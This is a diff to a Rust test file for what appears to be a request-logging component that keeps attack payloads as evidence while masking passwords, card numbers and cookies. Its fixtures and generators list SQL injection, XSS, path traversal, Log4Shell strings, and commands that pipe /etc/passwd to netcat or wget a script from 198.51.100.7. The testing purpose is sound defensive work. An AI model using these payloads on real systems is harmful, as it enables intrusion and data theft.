@@ -155,18 +155,87 @@ fn nothing_secret_is_written() {
     }
 }
 
-#[test]
-fn an_attack_is_kept_as_evidence() {
-    for (kind, body) in [
-        (BodyKind::Form, &b"a=1' union select password from users -- &b=2"[..]),
-        (BodyKind::Form, b"a=%c0%ae%c0%ae/etc/passwd&b=\xff\xfe&c=<script>alert(1)</script>"),
-    ] {
-        let mut facts = bare(1_700_000_000_000_001);
-        facts.body = Fact::Known(BodyPrefix { kind, bytes: body, complete: false });
-        let record = read(&check(&judge(), &judge(), &facts).unwrap());
-        let back = record.facts(&[]).body.known().map(|body| (body.bytes.to_vec(), body.complete));
-        assert_eq!(back, Some((body.to_vec(), false)));
+const SCRIPT: &str = "<script>alert(1)</script>";
+
+/// The body that stands in the line of a request with this one; `#` for any mask. It is judged alike.
+fn kept(kind: BodyKind, body: &[u8]) -> String {
+    let mut facts = bare(1_700_000_000_000_001);
+    facts.body = Fact::Known(BodyPrefix { kind, bytes: body, complete: false });
+    let record = read(&check(&judge(), &judge(), &facts).unwrap());
+    let back = record.facts(&[]).body.known().expect("the body fits its line");
+    assert!(!back.complete);
+    let mut text = String::from_utf8_lossy(back.bytes).into_owned();
+    let is_mask = |word: &str| word.bytes().all(|b| b.is_ascii_hexdigit());
+    while let Some((at, _)) =
+        text.match_indices('v').find(|(at, _)| text.get(at + 1..at + 16).is_some_and(is_mask))
+    {
+        text.replace_range(at..at + 16, "#");
     }
+    text
+}
+
+#[test]
+fn an_attack_is_kept_as_evidence_and_nothing_beside_it() {
+    let check = |kind, body: &str, expect: &str| assert_eq!(kept(kind, body.as_bytes()), expect, "{body}");
+    let union = "1' union select password from users -- ";
+    check(BodyKind::Form, union, "#' union select password from users --#");
+    check(BodyKind::Form, &format!("a={union}&b=2&password=hunter2"), &format!("a={union}&b=#&password=#"));
+    check(BodyKind::Form, &format!("password=hunter2{SCRIPT}&b=2"), "password=#<script>alert(#&b=#");
+    check(BodyKind::Form, "cmd=ls&card=4111111111111111", "cmd=ls&card=#");
+    check(BodyKind::Form, &format!("{{\"password\":\"hunter2\",\"q\":\"{SCRIPT}\"}}"), "#\"<script>#");
+    check(
+        BodyKind::Json,
+        &format!(r#"{{"q": ["{SCRIPT}", "other"], "card": {{"pin": "{SCRIPT}"}}, "n": true}}"#),
+        &format!(r##"{{"q": ["{SCRIPT}", "#"], "card": {{"pin": "#"}}, "n": true}}"##),
+    );
+    check(BodyKind::Json, &format!(r#"{{"{SCRIPT}": "ann"}}"#), r##"{"<script>alert(#": "#"}"##);
+    check(BodyKind::Text, &format!("<user>ann</user><q>{SCRIPT}</q>"), "#<script>alert(#");
+    check(
+        BodyKind::Multipart,
+        &format!(
+            "--XX\r\nContent-Disposition: form-data; name=\"iban\"\r\n\r\nDE89370400440532013000\r\n--XX\r\n\
+             Content-Disposition: form-data; name=\"f\"; filename=\"{SCRIPT}.png\"\r\n\r\nphoto\r\n--XX--\r\n"
+        ),
+        &format!(
+            "--#\r\nContent-Disposition: form-data; name=\"iban\"\r\n\r\n#\r\n--#\r\n\
+             Content-Disposition: form-data; name=\"f\"; filename=\"{SCRIPT}.png\"\r\n\r\n#\r\n--#--\r\n"
+        ),
+    );
+    let bytes = [&b"a=%c0%ae%c0%ae/etc/passwd\xff&b=\xff\xfe&c="[..], SCRIPT.as_bytes()].concat();
+    let expect = format!("a=%c0%ae%c0%ae/etc/passwd\u{fffd}&b=#&c={SCRIPT}");
+    assert_eq!(kept(BodyKind::Form, &bytes), expect);
+}
+
+#[test]
+fn where_the_rest_of_a_text_matters_it_stays_whole() {
+    // A browser's report is judged mildly, and without headers it is known by its beginning.
+    let report = "{\"csp-report\":{\"blocked-uri\":\"${jndi:ldap://198.51.100.7/a}\"}}";
+    assert_eq!(kept(BodyKind::Form, report.as_bytes()), report);
+}
+
+#[test]
+fn what_a_name_tells_the_detector_is_told_by_its_mask() {
+    // The same text is an editor's under one name and an attack under another; neither name is one that is kept.
+    let text = "<img src=x onerror=alert(1)>";
+    let json = |name: &str| format!(r#"{{"{name}": "{text}", "b": "x"}}"#);
+    for name in ["Ann's comment", "Ann's number", "Ann's file", "the body"] {
+        let kept = kept(BodyKind::Json, json(name).as_bytes());
+        assert!(!kept.contains("Ann") && !kept.contains("the"), "{kept}");
+    }
+}
+
+#[test]
+fn of_a_cookie_only_the_attack_is_kept() {
+    let attack = "${jndi:ldap://198.51.100.7/a}";
+    let cookie = format!("sid=hunter2horse; theme=x{attack}; cart=hunter2horse");
+    let key = format!("hunter2horse {attack}");
+    let entries = [("Cookie", cookie.as_str()), ("X-Api-Key", &key), ("X-Other", attack)];
+    let mut facts = bare(1_700_000_000_000_001);
+    facts.headers =
+        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
+    let line = check(&judge(), &judge(), &facts).unwrap();
+    assert!(!line.contains("hunter2") && line.contains("cart=v"), "{line}");
+    assert!(line.contains("theme=v") && line.contains("${jndi:") && line.contains(attack), "{line}");
 }
 
 #[test]
@@ -194,8 +263,9 @@ fn a_line_keeps_its_bound_and_says_so() {
 }
 
 fn body() -> impl Strategy<Value = (BodyKind, Vec<u8>)> {
-    let word = "(website|palisade_token|cmd|file|url|q|name|[a-z\"<']{0,6})";
-    let value = "(|\\+| |[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é)";
+    let word = "(website|palisade_token|cmd|file|url|q|name|password|a comment|my file|[a-z\"<']{0,6})";
+    let value = "(|\\+| |[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é\
+                 |[ -~é]{0,9}(<script>alert\\(1\\)</script>|' or '1'='1|1' union select null--|%2527%c0%ae|\\$\\{jndi:ldap://h/a\\})[ -~]{0,9})";
     let pair = (word, value);
     let pairs = prop::collection::vec(pair, 0..5);
     let form = pairs.clone().prop_map(|pairs| {
@@ -217,8 +287,10 @@ fn body() -> impl Strategy<Value = (BodyKind, Vec<u8>)> {
             format!("{}--XX--\r\n", pairs.iter().map(part).collect::<String>()).into_bytes(),
         )
     });
-    let any_kind = prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Text]);
-    let raw = (any_kind, "[ -~]{0,40}").prop_map(|(kind, text)| (kind, text.into_bytes()));
+    let any_kind =
+        prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Json, BodyKind::Text]);
+    let raw = "([ -~\n]{0,12}(<script>alert\\(1\\)</script>|' or 1=1--|/../../etc/passwd|%c0%ae|\0|;cat /etc/passwd|\"){0,1}){0,4}";
+    let raw = (any_kind, raw).prop_map(|(kind, text)| (kind, text.into_bytes()));
     prop_oneof![form, json, multipart, raw]
 }
 
@@ -238,8 +310,119 @@ fn header() -> impl Strategy<Value = (String, String)> {
         "accept-language",
         "Connection",
     ]);
-    let value = "(|a=b; c=d|Bearer [a-z]{4}|\\$\\{jndi:ldap://198.51.100.7/a\\}|<script>alert\\(1\\)</script>|[ -~]{0,20})";
+    let value = "(|a=b; c=d|Bearer [a-z]{4}|a=b; c=[ -~]{0,9}\\$\\{jndi:ldap://h/a\\}[ -~]{0,9}; d|\\$\\{jndi:ldap://198.51.100.7/a\\}|<script>alert\\(1\\)</script>|[ -~]{0,20})";
     (name.prop_map(str::to_owned), value)
+}
+
+/// Attacks of every kind; none holds what divides the fields of a form.
+const ATTACKS: [&str; 12] = [
+    SCRIPT,
+    "<img src=x onerror=alert(document.cookie)>",
+    "1' union select password from users-- ",
+    "' or '1'='1",
+    "1; drop table users--",
+    "../../../../etc/passwd",
+    "%2e%2e%2f%2e%2e%2fetc/shadow",
+    "; cat /etc/passwd | nc 198.51.100.7 4444",
+    "$(wget http://198.51.100.7/x.sh)",
+    "${jndi:ldap://198.51.100.7/a}",
+    "{{7*7}}{{config.items()}}",
+    "php://filter/convert.base64-encode/resource=index.php",
+];
+
+/// A field as it is sent.
+#[derive(Clone, Debug)]
+struct Field {
+    name: &'static str,
+    value: String,
+    is_attack: bool,
+}
+
+fn field() -> impl Strategy<Value = Field> {
+    let names = [
+        "q",
+        "comment",
+        "file",
+        "url",
+        "email",
+        "password",
+        "card",
+        "user[pin]",
+        "a body",
+        "Ann's",
+        "",
+        "cmd",
+    ];
+    // No attack and no mask is made of these letters.
+    let secret = "[g-z]{10,14}";
+    let attack = prop::option::of((prop::sample::select(ATTACKS.to_vec()), any::<bool>()));
+    (prop::sample::select(names.to_vec()), secret, attack).prop_map(|(name, secret, attack)| {
+        let value = match attack {
+            Some((attack, true)) => format!("{secret} {attack} {secret}"),
+            Some((attack, false)) => attack.to_owned(),
+            None => secret,
+        };
+        Field { name, value, is_attack: attack.is_some() }
+    })
+}
+
+fn sent(kind: BodyKind, fields: &[Field]) -> String {
+    let quoted = |text: &str| serde_json::Value::from(text).to_string();
+    let all = fields.iter().map(|Field { name, value, .. }| match kind {
+        BodyKind::Form if name.is_empty() => value.replace('=', "%3D"),
+        BodyKind::Form => format!("{}={value}", name.replace(' ', "+")),
+        BodyKind::Json => format!("{}: [{}]", quoted(name), quoted(value)),
+        BodyKind::Multipart => {
+            format!("--XX\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
+        }
+        BodyKind::Text => format!("<{name}>{value}</{name}>\n"),
+    });
+    let all: Vec<String> = all.collect();
+    match kind {
+        BodyKind::Form => all.join("&"),
+        BodyKind::Json => format!("{{{}}}", all.join(", ")),
+        BodyKind::Multipart => format!("{}--XX--\r\n", all.concat()),
+        BodyKind::Text => all.concat(),
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(400))]
+    #[test]
+    fn beside_an_attack_nobodys_values_survive(
+        fields in prop::collection::vec(field(), 0..6),
+        kind in prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Json]),
+        repeats in 1usize..7,
+    ) {
+        let (live, again) = (judge(), judge());
+        let body = sent(kind, &fields);
+        for n in 0..repeats {
+            let mut facts = bare(1_700_000_000_000_000 + i64::try_from(n).unwrap() * 1_234_567);
+            facts.body = Fact::Known(BodyPrefix { kind, bytes: body.as_bytes(), complete: true });
+            let line = check(&live, &again, &facts)?;
+            prop_assert!(!line.contains("\"cut\""), "{}", line);
+            for field in fields.iter().filter(|field| !field.is_attack) {
+                prop_assert!(!line.contains(&field.value), "{} in {}", field.value, line);
+            }
+        }
+    }
+
+    /// A text has no fields: what lies beyond the attack that is reported goes.
+    #[test]
+    fn of_a_text_only_the_attack_survives(
+        before in prop::collection::vec("[g-z]{10,14}", 1..3),
+        attack in prop::sample::select(ATTACKS.to_vec()),
+        after in "[g-z]{10,14}",
+    ) {
+        let body = format!("<a>{}</a>\n<q>{attack}</q>\n<b>{after}</b>\n", before.join("</a><a>"));
+        let mut facts = bare(1_700_000_000_000_000);
+        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Text, bytes: body.as_bytes(), complete: true });
+        let line = check(&judge(), &judge(), &facts)?;
+        prop_assert!(!line.contains("\"cut\""), "{}", line);
+        for value in before.iter().chain([&after]) {
+            prop_assert!(!line.contains(value), "{} in {}", value, line);
+        }
+    }
 }
 
 proptest! {
